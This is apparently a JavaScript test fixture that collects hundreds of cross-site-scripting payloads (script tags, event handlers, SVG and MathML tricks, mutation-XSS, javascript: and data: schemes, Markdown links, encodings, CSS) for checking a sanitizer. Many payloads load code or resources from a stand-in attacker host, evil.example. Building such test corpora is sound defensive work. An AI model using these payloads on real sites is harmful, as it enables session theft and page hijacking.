// Tricks that public collections of cross-site scripting are made of, grouped by what they hope for.  Each one that runs calls `window.__ran`
// or asks another host for something; hostile_test.mjs looks for both.

const run = "window.__ran=1";
const away = "//evil.example/x";
const code = (s) => [...s].map((c) => `&#${c.codePointAt(0)};`).join("");
const hex = (s) => [...s].map((c) => `&#x${c.codePointAt(0).toString(16)};`).join("");
const long = (s) => [...s].map((c) => `&#${String(c.codePointAt(0)).padStart(7, "0")}`).join("");

const tags = [
	`<script>${run}</script>`, `<SCRIPT SRC=${away}.js></SCRIPT>`, `<ScRiPt >${run}</ScRiPt >`, `<script/x>${run}</script>`, `<script\n>${run}</script\n>`, `<scr<script>ipt>${run}</scr</script>ipt>`,
	`"><script>${run}</script>`, `'><script>${run}</script>`, `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `</style><script>${run}</script>`, `--><script>${run}</script>`,
	`]]><script>${run}</script>`, `</script><script>${run}</script>`, `<!--><script>${run}</script>-->`, `<![CDATA[<script>${run}</script>]]>`, `<?xml version="1.0"?><script>${run}</script>`,
	`<script type="module">import "${away}.mjs"</script>`, `<script>/*`, `*/${run}</script>`, `<<script>${run}//<</script>`, `<script x=">" >${run}</script>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
];
const handlers = [
	`<img src=x onerror=${run}>`, `<img src=x:${run} onerror=eval(src)>`, `<img """><script>${run}</script>">`, `<img/src=x/onerror=${run}>`, `<img src onerror=${run}//`, `<img onerror="${run}" src=/x`, `<body onload=${run}>`,
	`<svg onload=${run}>`, `<svg/onload=${run}>`, `<svg\u000conload=${run}>`, `<video><source onerror=${run}></video>`, `<audio src onerror=${run}>`, `<video poster=${away} onloadstart=${run} src=x>`,
	`<input autofocus onfocus=${run}>`,
	`<select autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}>`, `<details open ontoggle=${run}>`, `<marquee onstart=${run}>x</marquee>`, `<xss onpointerenter=${run} tabindex=1 id=x>x</xss>`,
	`<a onmouseover="${run}">x</a>`,
	`<div style="animation:spin 1s" onanimationstart=${run}>x</div>`, `<p onbeforescriptexecute=${run}>x</p>`, `" onfocus="${run}" autofocus x="`, `' onfocus='${run}' autofocus x='`, `x" onmouseover=${run} y="`,
	"` onerror=window.__ran=1 `",
	`<img src=\`x\` onerror=\`${run}\`>`, `<object data=x onerror=${run}>`, `<button popovertarget=x>x</button><xss popover id=x onbeforetoggle=${run}>x</xss>`, `<style onload=${run}></style>`,
	`<link rel=stylesheet href=${away}.css onload=${run}>`,
];
const elements = [
	`<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`, `<iframe src=${away}></iframe>`, `<object data="javascript:${run}"></object>`, `<embed src="javascript:${run}">`,
	`<object type="text/x-scriptlet" data="http:${away}"></object>`, `<base href="${away}/">`, `<meta http-equiv="refresh" content="0;url=javascript:${run}">`, `<meta http-equiv="refresh" content="0;url=http:${away}">`,
	`<meta http-equiv="Set-Cookie" content="a=b">`, `<meta charset="utf-7">`, `<form action="http:${away}"><input type=submit></form>`, `<button formaction="javascript:${run}">x</button>`,
	`<form id=t></form><button form=t formaction="javascript:${run}">x</button>`,
	`<input type=image src=${away}>`, `<isindex type=image src=1 onerror=${run}>`, `<frameset onload=${run}></frameset>`, `<applet code="x">`, `<portal src="http:${away}">`,
	`<template shadowrootmode=open><script>${run}</script></template>`,
	`<link rel="import" href="${away}">`, `<link rel=preload as=image href=${away}>`, `<img srcset="${away} 1x, ${away} 2x">`, `<picture><source srcset=${away}><img src=${away}></picture>`, `<img src=${away}>`,
	`<bgsound src=${away}>`,
	`<table background="${away}"><td background="${away}">`, `<body background="${away}">`, `<image src=${away} onerror=${run}>`, `<a ping="${away}" href="/">x</a>`, `<video src=${away} autoplay></video>`, `<track src=${away}>`,
];
const foreign = [
	`<svg><script>${run}</script></svg>`, `<svg><script href="data:text/javascript,${run}"/></svg>`, `<svg><a xlink:href="javascript:${run}"><text x=9 y=9>x</text></a></svg>`,
	`<svg><animate xlink:href=#x attributeName=href values=javascript:${run} /><a id=x>x</a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`, `<svg><set attributeName=onload to=${run}></svg>`, `<svg><image href=${away} /></svg>`,
	`<svg><style>@import '${away}';</style></svg>`,
	`<math><mi xlink:href="javascript:${run}">x</mi></math>`, `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
	`<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></foreignObject></svg>`,
	`<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
];
const mutation = [
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
	`<svg><p><style><img src="</style><img src=x onerror=${run}//">`,
	`<noscript><style></noscript><img src=x onerror=${run}>`, `<listing>&lt;img src=1 onerror=${run}&gt;</listing>`, `<img alt="\`\` onerror=${run} " src=x>`,
	`<p><svg><foreignObject><math><mi><mglyph><a title="</a><img src onerror=${run}>">`,
	`<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${run}>">`, `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`, `<div id="x\`"onclick=${run}>x</div>`,
	`<style><!--</style><script>${run}//--></script>`,
	`<title><a title="</title><img src=x onerror=${run}>">`, `<textarea><a title="</textarea><img src=x onerror=${run}>">`, `<b><p title=b</p>"><img src=x onerror=${run}>`, `<plaintext><img src=x onerror=${run}>`,
];
const schemes = [
	`javascript:${run}`, `JaVaScRiPt:${run}`, `java\tscript:${run}`, `java\nscript:${run}`, `\u0001javascript:${run}`, ` javascript:${run}`, `javascript\u0000:${run}`, `java&#x0A;script:${run}`, `javascript&colon;${run}`,
	`javascript&#58;${run}`, `javascript&#x3A;${run}`,
	`java&Tab;script:${run}`, `&#1;javascript:${run}`, code(`javascript:${run}`), hex(`javascript:${run}`), long(`javascript:${run}`), `javascript://%0a${run}`, `javascript:/*--></title></style>*/${run}`, `vbscript:${run}`,
	`livescript:${run}`, `mocha:${run}`,
	`data:text/html,<script>${run}</script>`, "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", `data:image/svg+xml,<svg onload=${run}>`, `//evil.example`, `/\\evil.example`, `\\\\evil.example`, `https:evil.example`,
	`feed:javascript:${run}`,
	`view-source:javascript:${run}`, `jar:javascript:${run}!/`, `blob:http://x/`, `file:///etc/passwd`, `%6aavascript:${run}`, `javascript%3a${run}`, `＜javascript:${run}`, `ｊavascript:${run}`, `x-javascript:${run}`,
	`about:blank`, `http://a@evil.example/`,
	`https://evil.example" onmouseover="${run}`, `https://a.example/'onclick='${run}`, `mailto:a@b.example?body=<script>${run}</script>`, `tel:1"onclick="${run}`,
];
const markdown = [
	...schemes.flatMap((s) => [`[x](${s})`, `[x](<${s}>)`, `![x](${s})`]), ...schemes.slice(0, 12).flatMap((s) => [`<${s}>`, `[r]: ${s} "t"\n\n[r] and [r][] and [x][r]`, `![a][r]\n\n[r]: ${s}`]),
	`[x](javascript:${run} "title" onclick="${run}")`,
	`[x](https://a.example "\\" onmouseover=\\"${run}")`, `[x](https://a.example 'a"onmouseover="${run}')`, `![" onerror="${run}](https://a.example/x.png)`, `![x](https://a.example/x.png"onerror="${run})`,
	`![x](media:1 "\\"><script>${run}</script>")`,
	`![<img src=x onerror=${run}>](media:1)`, `[<img src=x onerror=${run}>](https://a.example)`, `[![x](javascript:${run})](javascript:${run})`, `[x]( javascript:${run})`, `[x](\tjavascript:${run})`, `[x](java\\script:${run})`,
	`[a](j&#97;v&#97;script:${run})`,
	`<a@b.example"onmouseover=${run}>`, `<https://a.example/"onmouseover="${run}>`, `https://a.example/"onmouseover="${run}`, `www.a.example/<script>${run}</script>`, `\`<script>${run}</script>\``,
	`\`\`\`js"><script>${run}</script>\nx\n\`\`\``,
	`~~~<img src=x onerror=${run}>\nx\n~~~`, `    <script>${run}</script>`, `| <script>${run}</script> | [x](javascript:${run}) |\n|---|:-:|\n| <img src=x onerror=${run}> | ![x](javascript:${run}) |`,
	`| a |\n| :-- " onclick=${run} |\n| x |`,
	`# <script>${run}</script> {#x onclick=${run}}`, `> <script>${run}</script>`, `- <img src=x onerror=${run}>`, `1. [x](data:text/html,x)`, `[^1]: <script>${run}</script>\n\n[^1]`, `[video](javascript:${run} "video")`,
	`[v](https://evil.example/x.mp4 "video")`,
	`[v](http://evil.example/"onclick="${run} "video")`, `[x](story:1"onclick="${run})`, `[x](story:99999999999999999999)`, `[x](media:1)`, `![x](story:1)`, `[x](javascript:1)`, `[x](vbscript:1)`, `[x](data:1)`,
	`**<b onclick=${run}>**`, `*[x](javascript:${run})*`,
	`<div\n>x</div><script>${run}</script>`, `<!-- [x](javascript:${run}) --><script>${run}</script>`, `<?php ${run} ?>`, `<!DOCTYPE x [<!ENTITY y "z">]>&y;`, `[x](<javascript:${run}>)`, `[a](<b)c<script>${run}</script>`,
	`[x](#\u0022onclick=${run})`,
	`![x](//evil.example/p.png)`, `![x](https://evil.example/p.png "x")`, `![x](/media/1/../../desk)`, `[x](/vi/sign-out)`, `[x](//evil.example/)`, `[x](/\\evil.example)`, `[x](/\t/evil.example)`, `[x](http:/evil.example)`,
	`[x](///evil.example)`,
];
const encodings = [
	`+ADw-script+AD4-${run}+ADw-/script+AD4-`, `\u003cscript\u003e${run}\u003c/script\u003e`, "\\u003cscript\\u003ewindow.__ran=1\\u003c/script\\u003e", "\\x3cscript\\x3ewindow.__ran=1\\x3c/script\\x3e",
	"%3Cscript%3Ewindow.__ran=1%3C/script%3E",
	"&lt;script&gt;window.__ran=1&lt;/script&gt;", "&amp;lt;script&amp;gt;window.__ran=1", "&#60;script&#62;window.__ran=1&#60;/script&#62;", "＜script＞window.__ran=1＜/script＞", "\u202e<script>window.__ran=1</script>",
	"<script\u200b>window.__ran=1</script>",
	"\u2028<script>window.__ran=1</script>\u2029", "<\u0073cript>window.__ran=1</script>", "¼script¾window.__ran=1¼/script¾", "{{constructor.constructor('window.__ran=1')()}}", "${window.__ran=1}", "<%= 7*7 %>", "#{7*7}",
	"{% raw %}", "{_ x}{html v}{call y}",
	"=HYPERLINK(\"http://evil.example\")", "@import '//evil.example'", "</script><!--", "</head><body onload=window.__ran=1>", "a\u0000b<script>window.__ran=1</script>", "<img src=x one\u0000rror=window.__ran=1>",
	"\ufeff<script>window.__ran=1</script>",
];
const css = [
	`<style>@import '${away}';</style>`, `<style>body{background:url(${away})}</style>`, `<p style="background:url(${away})">x</p>`, `<p style="width:expression(${run})">x</p>`, `<p style="-moz-binding:url(${away})">x</p>`,
	`<p style="behavior:url(${away})">x</p>`,
	`<link rel=stylesheet href="javascript:${run}">`, `<xss style="xss:expr/*x*/ession(${run})">`, `<p style='x:\\22onclick="${run}'>x</p>`, `<font style="font-family:'</style><script>${run}</script>">x</font>`,
	`<style>*{x:ex\\70ression(${run})}</style>`,
];

/** For fields of one line. */
export const lines = [...tags, ...handlers, ...elements, ...foreign, ...mutation, ...encodings, ...css].filter((s) => !/[\n\u0000\u000c]/.test(s));
/** For texts in Markdown: each may hold several blocks. */
export const texts = [...markdown, ...tags, ...handlers, ...elements, ...foreign, ...mutation, ...encodings, ...css].map((s) => s.replaceAll("\u0000", "\ufffd"));
/** For fields of addresses. */
export const addresses = schemes.filter((s) => !s.includes("\u0000"));
/** For the clipboard: everything that is markup, and every address in a link and a picture. */
export const markups = [...tags, ...handlers, ...elements, ...foreign, ...mutation, ...encodings, ...css, ...schemes.map((s) => `<a href="${s.replaceAll('"', "&quot;")}">x</a><img src="${s.replaceAll('"', "&quot;")}">`)];
